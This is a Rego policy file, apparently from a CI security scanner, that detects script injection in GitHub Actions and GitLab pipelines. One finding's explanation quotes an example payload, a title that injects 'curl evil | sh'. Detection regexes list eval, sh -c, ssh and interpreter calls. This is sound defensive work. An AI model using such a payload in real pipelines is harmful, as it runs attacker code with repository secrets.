# Text that anybody can write, a title or the name of a branch, and that a pipeline runs as a command.
package mrbot.ci.injection

import data.mrbot.ci.github
import data.mrbot.ci.gitlab
import data.mrbot.finding
import data.mrbot.shape
import rego.v1

expression := {
	"id": "ci.injection.expression",
	"title": "A GitHub expression with a stranger's text in it, put into a script",
	"why": "A title such as `\"; curl evil | sh; \"` becomes a part of the script, and runs with the job's rights.",
	"fix": "Give it to the step as a variable, and write that in quotes: env: {TITLE: ${{ ... }}}, \"$TITLE\".",
	"reference": "https://docs.github.com/en/actions/concepts/security/script-injections",
	"controls": ["CICD-SEC-4", "NIST 800-53 SI-10"],
}

# Triggers that strangers cause and that come with the repository's secrets.
strangers_triggers := github.privileged_triggers | {"discussion", "discussion_comment", "fork", "issues", "watch"}

deny_expression contains finding.about(injected.resource, expression, text) if {
	some injected in injections
	some trigger in github.triggers_of[injected.resource.source.path]
	trigger in strangers_triggers
	text := sprintf("lets strangers write its script, with this repository's secrets: %s under %s", [injected.expression, trigger])
}

# Without such a trigger, it is those who could change the workflow itself, or nobody's secrets.
warn_expression contains finding.about(injected.resource, expression, text) if {
	some injected in injections
	not by_strangers(injected.resource)
	text := sprintf("lets others write its script: %s", [injected.expression])
}

by_strangers(resource) if {
	some trigger in github.triggers_of[resource.source.path]
	trigger in strangers_triggers
}

injections := [{"resource": resource, "expression": shape.shown(found)} |
	some resource in github.present
	resource.kind == "job"
	some step in github.steps(resource)
	some script in scripts(step)
	some found in regex.find_n(`(?s)\$\{\{.*?\}\}`, script, -1)
	unsafe(found)
]

scripts(step) := shape.texts([shape.get(step, "run"), shape.get(shape.get(step, "with"), "script")])

# `github['head_ref']` is github.head_ref; a comparison by itself gives true or false.
unsafe(found) if {
	plain := regex.replace(lower(found), `\[\s*'([a-z_]+)'\s*\]`, ".$1")
	regex.match(strangers_text, plain)
	not regex.match(`^\$\{\{\s*!?\s*(contains|startswith|endswith)\([^|&]*$`, plain)
	not regex.match(`^[^|&(]*[!=]=[^|&(]*$`, plain)
}

strangers_text := concat("|", [
	`tojson\(\s*github(\.event(\.(issue|pull_request|discussion|comment|review|head_commit|commits))?)?\s*\)`,
	`github\.head_ref`,
	`github\.event\.(issue|pull_request|discussion)\.(title|body)`,
	`github\.event\.(comment|review|review_comment)\.body`,
	`github\.event\.pull_request\.head\.(ref|label|repo\.(default_branch|description|homepage))`,
	`github\.event\.pages(\[[^\]]*\]|\.[a-z0-9*]+)\.(page_name|title)`,
	`github\.event\.(head_commit|commits(\[[^\]]*\]|\.[a-z0-9*]+)|workflow_run\.head_commit)\.(message|(author|committer)\.(email|name))`,
	`github\.event\.workflow_run\.(head_branch|display_title)`,
])

variable := {
	"id": "ci.injection.variable",
	"title": "A GitLab variable with a stranger's text in it, given to eval or a second shell",
	"why": "The title of a merge request or the message of a commit runs as a command, with the job's rights.",
	"fix": "Write the variable in quotes, outside of eval and of strings that another shell reads.",
	"reference": "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
	"controls": ["CICD-SEC-4", "NIST 800-53 SI-10"],
}

deny_variable contains finding.about(resource, variable, text) if {
	some resource in gitlab.present
	resource.kind in {"job", "settings"}
	some line in lines(resource.after)
	found := regex.find_n(`(^|[\s;&|(])(eval|(/\S*/)?(ba|da|k|z)?sh\s+(-\S+\s+)*-[a-z]*c|ssh|python[0-9.]*\s+-c|node\s+-e|perl\s+-e)\s[^'\n]*\$\{?CI_(COMMIT_(MESSAGE|TITLE|DESCRIPTION|TAG_MESSAGE|AUTHOR)|MERGE_REQUEST_(TITLE|DESCRIPTION|LABELS|SOURCE_BRANCH_NAME|MILESTONE))`, line, 1)
	count(found) > 0
	text := sprintf("runs a stranger's text as a command: %s", [shape.shown(trim_space(found[0]))])
}

# Every line of a job's scripts; lists in lists are those that anchors have put there.
lines(job) := [line |
	some place in [["script"], ["before_script"], ["after_script"], ["default", "before_script"], ["default", "after_script"]]
	some entry in shape.items(object.get(job, place, null))
	some line in shape.texts(entry)
]
